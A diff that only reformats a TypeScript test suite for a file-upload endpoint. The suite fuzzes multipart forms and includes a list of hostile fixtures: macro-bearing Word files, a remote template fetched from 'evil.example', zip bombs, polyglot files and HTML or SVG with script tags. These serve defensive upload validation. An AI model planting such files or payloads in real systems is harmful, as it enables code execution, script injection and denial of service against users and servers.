@@ -19,8 +19,18 @@ const path = "/api/service-requests";
 type Started = Awaited<ReturnType<typeof startApp>>;
 
 async function goodBodies(): Promise<readonly SentBody[]> {
-  const files = [undefined, ...(["pdf", "doc", "docx", "jpg", "png"] as const).map((type) => ({ name: `brief.${type}`, bytes: sampleFile(type) }))];
-  const bodies = await Promise.all([...files, { name: "large.pdf", bytes: paddedTo(70_000, sampleFile("pdf")) }].map((file) => multipart(goodRequest, file)));
+  const files = [
+    undefined,
+    ...(["pdf", "doc", "docx", "jpg", "png"] as const).map((type) => ({
+      name: `brief.${type}`,
+      bytes: sampleFile(type),
+    })),
+  ];
+  const bodies = await Promise.all(
+    [...files, { name: "large.pdf", bytes: paddedTo(70_000, sampleFile("pdf")) }].map((file) =>
+      multipart(goodRequest, file),
+    ),
+  );
   return bodies.map(withSameBoundary);
 }
 
@@ -28,7 +38,10 @@ async function goodBodies(): Promise<readonly SentBody[]> {
 function withSameBoundary({ headers, payload }: Awaited<ReturnType<typeof multipart>>): SentBody {
   const [, boundary = ""] = headers["content-type"].split("boundary=");
   const same = "-".repeat(4).padEnd(boundary.length, "b");
-  return { type: headers["content-type"].replace(boundary, same), payload: Buffer.from(payload.toString("latin1").replaceAll(boundary, same), "latin1") };
+  return {
+    type: headers["content-type"].replace(boundary, same),
+    payload: Buffer.from(payload.toString("latin1").replaceAll(boundary, same), "latin1"),
+  };
 }
 
 /** What is in the store or among the files and should not be. */
@@ -36,13 +49,24 @@ async function wronglyKept({ stored, keptFiles, dataDir }: Started): Promise<rea
   const wrong: unknown[] = [];
   const held = new Set<string>();
   for (const lead of await stored()) {
-    if (lead.kind !== "service-request" || !checkServiceRequest(lead, { serviceIds: ["seo", "web-design"], now: new Date("2026-11-21T12:00:00Z") }).ok) wrong.push(lead);
+    if (
+      lead.kind !== "service-request" ||
+      !checkServiceRequest(lead, {
+        serviceIds: ["seo", "web-design"],
+        now: new Date("2026-11-21T12:00:00Z"),
+      }).ok
+    )
+      wrong.push(lead);
     const attachment = lead.kind === "service-request" ? lead.attachment : undefined;
     if (attachment === undefined) continue;
     held.add(attachment.file);
     const content = await readFile(join(dataDir, "attachments", attachment.file));
-    const isRight = createHash("sha256").update(content).digest("hex") === attachment.sha256 && content.length === attachment.sizeBytes;
-    const isGood = judgeAttachment(attachment.name, content).ok && (attachment.type !== "docx" || (await isHarmlessWordPackage(content)));
+    const isRight =
+      createHash("sha256").update(content).digest("hex") === attachment.sha256 &&
+      content.length === attachment.sizeBytes;
+    const isGood =
+      judgeAttachment(attachment.name, content).ok &&
+      (attachment.type !== "docx" || (await isHarmlessWordPackage(content)));
     if (!isRight || !isGood) wrong.push(attachment);
   }
   for (const file of await keptFiles()) if (!held.has(file)) wrong.push(file);
@@ -57,37 +81,82 @@ test(`Q-25 Q-30 ${count} spoilt forms: each is answered as what it is, nothing b
   for (let i = 0; i < count; i++) {
     const { type, payload } = mutate(chance.oneOf(bodies), chance);
     const accept = chance.below(4) === 0 ? plainFormAccept : "application/json";
-    const { statusCode } = await started.app.inject({ method: "POST", url: path, headers: { "content-type": type, accept }, payload });
+    const { statusCode } = await started.app.inject({
+      method: "POST",
+      url: path,
+      headers: { "content-type": type, accept },
+      payload,
+    });
     statuses.set(statusCode, (statuses.get(statusCode) ?? 0) + 1);
   }
   console.log(`${count} spoilt forms: ${JSON.stringify(Object.fromEntries(statuses))}`);
-  expect([...statuses.keys()].filter((status) => ![200, 201, 400, 413, 415].includes(status))).toEqual([]);
+  expect(
+    [...statuses.keys()].filter((status) => ![200, 201, 400, 413, 415].includes(status)),
+  ).toEqual([]);
   expect(statuses.get(400)).toBeGreaterThan(count / 4);
   expect(await wronglyKept(started)).toEqual([]);
   for (const { type, payload } of bodies) {
-    const { statusCode } = await started.app.inject({ method: "POST", url: path, headers: { "content-type": type }, payload });
+    const { statusCode } = await started.app.inject({
+      method: "POST",
+      url: path,
+      headers: { "content-type": type },
+      payload,
+    });
     expect([200, 201]).toContain(statusCode);
   }
 });
 
-const word = (parts: Parameters<typeof zip>[0]) => zip([{ name: "[Content_Types].xml" }, { name: "word/document.xml" }, ...parts]);
+const word = (parts: Parameters<typeof zip>[0]) =>
+  zip([{ name: "[Content_Types].xml" }, { name: "word/document.xml" }, ...parts]);
 const template = `<Relationship Target="https://evil.example/t.dotm" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" TargetMode="External"/>`;
 
 /** Files that somebody may send and nobody should open. */
 const hostileFiles: readonly (readonly [what: string, name: string, bytes: Uint8Array])[] = [
   ["a macro document", "brief.docx", word([{ name: "word/vbaProject.bin" }])],
   ["a macro document under another case", "brief.docx", word([{ name: "word/VBAPROJECT.BIN" }])],
-  ["a document that fetches its template", "brief.docx", word([{ name: "word/_rels/settings.xml.rels", text: template }])],
-  ["a bomb that says so", "brief.docx", word([{ name: "word/a.bin", unpackedBytes: 4_000_000_000 }])],
-  ["a bomb that lies", "brief.docx", word([{ name: "word/a.bin", text: "\0".repeat(20_000_000), unpackedBytes: 100 }])],
-  ["a macro document of the old kind", "brief.doc", compoundFile(["Root Entry", "WordDocument", "Macros", "_VBA_PROJECT"])],
+  [
+    "a document that fetches its template",
+    "brief.docx",
+    word([{ name: "word/_rels/settings.xml.rels", text: template }]),
+  ],
+  [
+    "a bomb that says so",
+    "brief.docx",
+    word([{ name: "word/a.bin", unpackedBytes: 4_000_000_000 }]),
+  ],
+  [
+    "a bomb that lies",
+    "brief.docx",
+    word([{ name: "word/a.bin", text: "\0".repeat(20_000_000), unpackedBytes: 100 }]),
+  ],
+  [
+    "a macro document of the old kind",
+    "brief.doc",
+    compoundFile(["Root Entry", "WordDocument", "Macros", "_VBA_PROJECT"]),
+  ],
   ["a spreadsheet of the old kind", "brief.doc", compoundFile(["Root Entry", "Workbook"])],
-  ["a PDF that is an archive too", "brief.pdf", Buffer.concat([sampleFile("pdf"), sampleFile("docx")])],
-  ["a picture that is an archive too", "photo.png", Buffer.concat([sampleFile("png"), zip([{ name: "index.html" }])])],
+  [
+    "a PDF that is an archive too",
+    "brief.pdf",
+    Buffer.concat([sampleFile("pdf"), sampleFile("docx")]),
+  ],
+  [
+    "a picture that is an archive too",
+    "photo.png",
+    Buffer.concat([sampleFile("png"), zip([{ name: "index.html" }])]),
+  ],
   ["a program named as a PDF", "brief.pdf", program],
   ["a program named twice", "brief.pdf.exe", program],
-  ["a page named as a picture", "photo.jpg", Buffer.from("<!doctype html><script>alert(1)</script>")],
-  ["a drawing with a script", "photo.svg", Buffer.from("<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>")],
+  [
+    "a page named as a picture",
+    "photo.jpg",
+    Buffer.from("<!doctype html><script>alert(1)</script>"),
+  ],
+  [
+    "a drawing with a script",
+    "photo.svg",
+    Buffer.from("<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"),
+  ],
   ["a picture under a PDF's name", "brief.pdf", sampleFile("png")],
   ["a PDF under a document's name", "brief.docx", sampleFile("pdf")],
   ["an archive", "brief.zip", zip([{ name: "a" }])],
@@ -100,21 +169,46 @@ test("Q-24 Q-25 Q-28 none of the hostile files is taken, each is refused in word
   const started = await startApp();
   const answers: unknown[] = [];
   for (const [what, name, content] of hostileFiles) {
-    const { headers, payload } = await multipart({ ...goodRequest, projectDescription: what }, { name, bytes: content });
+    const { headers, payload } = await multipart(
+      { ...goodRequest, projectDescription: what },
+      { name, bytes: content },
+    );
     const answer = await started.app.inject({ method: "POST", url: path, headers, payload });
     answers.push([what, answer.statusCode, answer.json().fields?.attachment]);
   }
-  expect(answers).toEqual(hostileFiles.map(([what]) => [what, 400, what === "one byte too many" ? "too-large" : "wrong-type"]));
+  expect(answers).toEqual(
+    hostileFiles.map(([what]) => [
+      what,
+      400,
+      what === "one byte too many" ? "too-large" : "wrong-type",
+    ]),
+  );
   expect(await started.keptFiles()).toEqual([]);
   const goodFiles = [
-    ...(["pdf", "doc", "docx", "jpg", "png"] as const).map((type) => ({ name: `good.${type}`, bytes: sampleFile(type) })),
+    ...(["pdf", "doc", "docx", "jpg", "png"] as const).map((type) => ({
+      name: `good.${type}`,
+      bytes: sampleFile(type),
+    })),
     { name: "عرض السعر.PDF", bytes: paddedTo(5_242_880, sampleFile("pdf")) },
     { name: "almost.pdf", bytes: paddedTo(5_242_879, sampleFile("pdf")) },
-    { name: "template.docx", bytes: word([{ name: "word/_rels/settings.xml.rels", text: template.replace("https://evil.example", "file:///C:/Users/Mona") }]) },
+    {
+      name: "template.docx",
+      bytes: word([
+        {
+          name: "word/_rels/settings.xml.rels",
+          text: template.replace("https://evil.example", "file:///C:/Users/Mona"),
+        },
+      ]),
+    },
   ];
   for (const file of goodFiles) {
-    const { headers, payload } = await multipart({ ...goodRequest, projectDescription: file.name }, file);
-    expect((await started.app.inject({ method: "POST", url: path, headers, payload })).statusCode).toBe(201);
+    const { headers, payload } = await multipart(
+      { ...goodRequest, projectDescription: file.name },
+      file,
+    );
+    expect(
+      (await started.app.inject({ method: "POST", url: path, headers, payload })).statusCode,
+    ).toBe(201);
   }
   expect(await wronglyKept(started)).toEqual([]);
   expect(await started.keptFiles()).toHaveLength(goodFiles.length);
@@ -129,9 +223,16 @@ test("Q-30 spoilt forms over a real connection, cut into pieces, never leave a c
   for (let i = 0; i < times(500, 60); i++) {
     const { type, payload } = mutate(chance.oneOf(bodies), chance);
     const pieces: Buffer[] = [];
-    for (let at = 0; at < payload.length;) pieces.push(payload.subarray(at, (at += 1 + chance.below(payload.length))));
+    for (let at = 0; at < payload.length;)
+      pieces.push(payload.subarray(at, (at += 1 + chance.below(payload.length))));
     const head = `POST ${path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Type: ${type.replace(/[^ -~]/g, "")}\r\nTransfer-Encoding: chunked\r\n\r\n`;
-    heard.push(await talk(Number(url.port), [head, ...pieces.flatMap((piece) => [`${piece.length.toString(16)}\r\n`, piece, "\r\n"]), "0\r\n\r\n"]));
+    heard.push(
+      await talk(Number(url.port), [
+        head,
+        ...pieces.flatMap((piece) => [`${piece.length.toString(16)}\r\n`, piece, "\r\n"]),
+        "0\r\n\r\n",
+      ]),
+    );
   }
   expect(heard.filter((answer) => !/^HTTP\/1\.1 (201|200|400|413|415) /.test(answer))).toEqual([]);
   expect((await fetch(new URL("/api/health", url))).status).toBe(200);
@@ -141,7 +242,12 @@ test("Q-30 spoilt forms over a real connection, cut into pieces, never leave a c
 test("Q-30 a large part that is no field, in one piece, does not keep the form waiting", async () => {
   const { app } = await startApp();
   const payload = `--b\r\nX-Disposition: form-data; name="a"\r\n\r\n${"x".repeat(300_000)}\r\n--b--\r\n`;
-  const { statusCode } = await app.inject({ method: "POST", url: path, headers: { "content-type": "multipart/form-data; boundary=b" }, payload });
+  const { statusCode } = await app.inject({
+    method: "POST",
+    url: path,
+    headers: { "content-type": "multipart/form-data; boundary=b" },
+    payload,
+  });
   expect(statusCode).toBe(400);
 });
 
@@ -165,13 +271,23 @@ test("Q-28 who sends on and on without saying how much is hung up on, and leaves
     let sent = 0;
     const socket = connect(Number(url.port), "127.0.0.1");
     socket.on("error", () => undefined).once("close", () => resolve(sent));
-    socket.write(`POST ${path} HTTP/1.1\r\nHost: x\r\nContent-Type: multipart/form-data; boundary=b\r\nTransfer-Encoding: chunked\r\n\r\n`);
-    const head = '--b\r\nContent-Disposition: form-data; name="attachment"; filename="a.pdf"\r\n\r\n';
+    socket.write(
+      `POST ${path} HTTP/1.1\r\nHost: x\r\nContent-Type: multipart/form-data; boundary=b\r\nTransfer-Encoding: chunked\r\n\r\n`,
+    );
+    const head =
+      '--b\r\nContent-Disposition: form-data; name="attachment"; filename="a.pdf"\r\n\r\n';
     socket.write(`${head.length.toString(16)}\r\n${head}\r\n`);
     const more = (error?: Error | null) => {
       if (error || sent > 500) return;
       sent++;
-      socket.write(Buffer.concat([Buffer.from(`${piece.length.toString(16)}\r\n`), piece, Buffer.from("\r\n")]), more);
+      socket.write(
+        Buffer.concat([
+          Buffer.from(`${piece.length.toString(16)}\r\n`),
+          piece,
+          Buffer.from("\r\n"),
+        ]),
+        more,
+      );
     };
     more();
   });
